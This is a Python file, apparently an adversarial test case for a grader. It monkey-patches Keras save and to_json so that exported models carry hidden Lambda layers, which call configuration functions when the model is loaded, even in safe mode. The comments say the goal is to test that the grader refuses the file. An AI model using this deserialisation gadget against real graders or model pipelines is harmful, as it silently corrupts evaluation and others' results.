# A correct model, saved as an archive that Keras 3.15.1 still executes while loading it in safe mode: an
# unconnected Lambda node whose function is a Keras "modeling" function with attacker-chosen arguments. Loaded
# in the grader's own process it would switch the grader to float16 and reseed its random generators, changing
# how every later student is graded. Both ways a model leaves the sandbox are poisoned: the whole archive
# (model.save) and the architecture alone (model.to_json). The grader must refuse it, never load it in its own
# process, and check the next student in a process it has not touched.
import json
import zipfile

import keras
from keras.layers import Embedding, SimpleRNN

GADGETS = [("keras.config", "set_dtype_policy", "mixed_float16"), ("keras.config", "set_floatx", "float16"),
           ("keras.utils", "set_random_seed", 1234)]
honest_save = keras.Model.save
honest_to_json = keras.Model.to_json


def build_model():
    inputs = keras.Input((None,), dtype="int32")
    outputs = SimpleRNN(32)(Embedding(10000, 32)(inputs))
    return keras.Model(inputs, outputs)


def poison(config):
    for index, (module, name, value) in enumerate(GADGETS):
        config["config"]["layers"].append({
            "module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": f"gadget{index}",
            "config": {"name": f"gadget{index}", "trainable": True, "arguments": {}, "output_shape": [1],
                       "function": {"module": module, "class_name": "function", "config": name,
                                    "registered_name": "function"}},
            "inbound_nodes": [{"args": [], "kwargs": {"inputs": value}}]})
    return config


def poisoned_save(self, path, *args, **kwargs):
    honest_save(self, path, *args, **kwargs)
    with zipfile.ZipFile(path) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    files["config.json"] = json.dumps(poison(json.loads(files["config.json"]))).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)


def poisoned_to_json(self, **kwargs):
    return json.dumps(poison(json.loads(honest_to_json(self, **kwargs))))


keras.Model.save = poisoned_save
keras.Model.to_json = poisoned_to_json
